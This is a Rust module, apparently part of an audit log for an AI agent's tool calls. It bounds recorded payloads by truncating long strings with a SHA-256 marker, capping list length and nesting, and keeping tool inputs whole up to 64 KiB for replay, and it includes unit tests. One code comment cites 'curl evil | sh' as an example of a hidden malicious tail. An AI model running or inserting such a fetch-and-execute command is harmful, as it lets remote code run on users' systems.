//! What of a payload the log keeps.
//!
//! The tool input (`tool_input`, the call itself) is kept whole up to
//! [`MAX_RECORDED_TOOL_INPUT`] bytes of JSON, so `replay` can decide the call again exactly; a
//! larger one is bounded like the rest of the payload and the record says
//! `"tool_input_truncated": true` (replay then reports the call as not replayable, never
//! guesses). The rest of the payload (the transcript path, a tool's response …) is bounded
//! member by member: long strings cut, long lists shortened, deep nesting elided, each cut
//! marked where it is.

use serde_json::Value;

/// Longest string kept verbatim in a recorded payload (outside a whole tool input); longer
/// ones are cut and marked.
pub const MAX_RECORDED_STRING: usize = 2048;
/// Most array elements / object members kept per level of a recorded payload.
pub const MAX_RECORDED_ITEMS: usize = 200;
/// Deepest nesting kept in a recorded payload.
pub const MAX_RECORDED_DEPTH: usize = 16;
/// Largest `tool_input` (serialized JSON bytes) kept whole.
pub const MAX_RECORDED_TOOL_INPUT: usize = 64 * 1024;

/// A payload as the log keeps it.
#[derive(Debug, PartialEq)]
pub struct Bounded {
    /// The bounded copy; `None` when nothing needed cutting (record the payload as it is).
    pub copy: Option<Value>,
    /// The payload's `tool_input` was over [`MAX_RECORDED_TOOL_INPUT`] and was cut.
    pub tool_input_truncated: bool,
}

/// `value` bounded for the log (see the module's documentation).
pub fn bounded_payload(value: &Value) -> Bounded {
    let Value::Object(map) = value else {
        return Bounded {
            copy: bound(value, 0),
            tool_input_truncated: false,
        };
    };
    let whole_input = map
        .get("tool_input")
        .is_some_and(|input| json_len(input) <= MAX_RECORDED_TOOL_INPUT);
    let tool_input_truncated = map.contains_key("tool_input") && !whole_input;
    Bounded {
        copy: bound_object(map, 0, whole_input),
        tool_input_truncated,
    }
}

/// The length of `value` serialized, without keeping the bytes.
fn json_len(value: &Value) -> usize {
    struct Count(usize);
    impl std::io::Write for Count {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            self.0 += buf.len();
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let mut count = Count(0);
    match serde_json::to_writer(&mut count, value) {
        Ok(()) => count.0,
        Err(_) => usize::MAX,
    }
}

/// `None` when `value` is within bounds; otherwise its bounded copy. A container is copied only
/// from its first member that needs cutting (or when it is too long), so the common payload is
/// walked once and never copied.
fn bound(value: &Value, depth: usize) -> Option<Value> {
    match value {
        Value::String(s) if s.len() > MAX_RECORDED_STRING => {
            let mut cut = MAX_RECORDED_STRING;
            while !s.is_char_boundary(cut) {
                cut -= 1;
            }
            // The cut is marked with what was cut, the full length and the full string's
            // SHA-256: the tail (`…; curl evil | sh`) leaves a trace that can be checked.
            Some(Value::String(format!(
                "{}…[truncated {} of {} bytes, sha256 {}]",
                &s[..cut],
                s.len() - cut,
                s.len(),
                crate::sha256::hex(&crate::sha256::sha256(s.as_bytes()))
            )))
        }
        Value::Array(_) | Value::Object(_) if depth >= MAX_RECORDED_DEPTH => {
            Some(Value::String("…[truncated: nested too deep]".into()))
        }
        Value::Array(items) => {
            let kept = &items[..items.len().min(MAX_RECORDED_ITEMS)];
            let mut out: Option<Vec<Value>> = None;
            for (i, item) in kept.iter().enumerate() {
                match (bound(item, depth + 1), &mut out) {
                    (Some(cut), out) => out.get_or_insert_with(|| kept[..i].to_vec()).push(cut),
                    (None, Some(out)) => out.push(item.clone()),
                    (None, None) => {}
                }
            }
            if items.len() > MAX_RECORDED_ITEMS {
                out.get_or_insert_with(|| kept.to_vec())
                    .push(Value::String(format!(
                        "…[truncated {} more items]",
                        items.len() - MAX_RECORDED_ITEMS
                    )));
            }
            out.map(Value::Array)
        }
        Value::Object(map) => bound_object(map, depth, false),
        _ => None,
    }
}

/// `map` bounded at `depth`; with `keep_tool_input`, its `tool_input` member is kept whole.
fn bound_object(
    map: &serde_json::Map<String, Value>,
    depth: usize,
    keep_tool_input: bool,
) -> Option<Value> {
    let copy = |n: usize| -> serde_json::Map<String, Value> {
        map.iter()
            .take(n)
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect()
    };
    let mut out: Option<serde_json::Map<String, Value>> = None;
    for (i, (k, v)) in map.iter().take(MAX_RECORDED_ITEMS).enumerate() {
        let cut = if keep_tool_input && k == "tool_input" {
            None
        } else {
            bound(v, depth + 1)
        };
        match (cut, &mut out) {
            (Some(cut), out) => {
                out.get_or_insert_with(|| copy(i)).insert(k.clone(), cut);
            }
            (None, Some(out)) => {
                out.insert(k.clone(), v.clone());
            }
            (None, None) => {}
        }
    }
    if map.len() > MAX_RECORDED_ITEMS {
        out.get_or_insert_with(|| copy(MAX_RECORDED_ITEMS)).insert(
            "…".into(),
            Value::String(format!(
                "[truncated {} more members]",
                map.len() - MAX_RECORDED_ITEMS
            )),
        );
    }
    out.map(Value::Object)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_bounds() {
        let long = "x".repeat(5000);
        let value = serde_json::json!({"tool_response": {"a": "kept", "content": long, "n": 1}, "list": (0..300).collect::<Vec<_>>(), "mixed": [1, "y".repeat(3000), 3]});
        let bounded = bounded_payload(&value).copy.expect("cut");
        // Members before and after a cut one are kept as they are.
        assert_eq!(bounded["tool_response"]["a"], "kept");
        assert_eq!(bounded["tool_response"]["n"], 1);
        assert_eq!(bounded["mixed"][0], 1);
        let digest = crate::sha256::hex(&crate::sha256::sha256("y".repeat(3000).as_bytes()));
        assert!(
            bounded["mixed"][1]
                .as_str()
                .unwrap()
                .ends_with(&format!("…[truncated 952 of 3000 bytes, sha256 {digest}]"))
        );
        assert_eq!(bounded["mixed"][2], 3);
        assert_eq!(bounded["list"][0], 0);
        assert_eq!(
            bounded["list"][MAX_RECORDED_ITEMS - 1],
            MAX_RECORDED_ITEMS - 1
        );
        let content = bounded["tool_response"]["content"].as_str().unwrap();
        assert!(
            content.contains("…[truncated 2952 of 5000 bytes, sha256 "),
            "{}",
            &content[2040..]
        );
        assert_eq!(
            bounded["list"].as_array().unwrap().len(),
            MAX_RECORDED_ITEMS + 1
        );
        assert_eq!(
            bounded_payload(&serde_json::json!({"a": ["b", 1, null]})).copy,
            None
        );
        let deep =
            (0..MAX_RECORDED_DEPTH).fold(serde_json::json!("x"), |v, _| serde_json::json!([v]));
        assert_eq!(
            bounded_payload(&deep).copy,
            None,
            "nesting up to the limit is kept"
        );
        let deeper = serde_json::json!([deep]);
        assert!(
            bounded_payload(&deeper).copy.is_some(),
            "one level more is cut"
        );
    }

    #[test]
    fn the_tool_input_is_kept_whole_up_to_its_bound() {
        let content = "c".repeat(60_000);
        let value = serde_json::json!({"tool_input": {"file_path": "/a", "content": content},
            "tool_response": "r".repeat(5000)});
        let bounded = bounded_payload(&value);
        assert!(!bounded.tool_input_truncated);
        let copy = bounded.copy.expect("the response is cut");
        assert_eq!(copy["tool_input"]["content"], content.as_str());
        assert!(copy["tool_response"].as_str().unwrap().len() < 2200);
        // A tool input of the bound and nothing else to cut: recorded as it is.
        let at_bound = serde_json::json!({"tool_input": {"content": content}});
        assert_eq!(
            bounded_payload(&at_bound),
            Bounded {
                copy: None,
                tool_input_truncated: false
            }
        );
        // Over it: bounded like the rest, and said so.
        let over = serde_json::json!({"tool_input": {"content": "c".repeat(70_000)}});
        let bounded = bounded_payload(&over);
        assert!(bounded.tool_input_truncated);
        let cut = bounded.copy.unwrap();
        assert!(
            cut["tool_input"]["content"]
                .as_str()
                .unwrap()
                .contains("…[truncated")
        );
    }
}
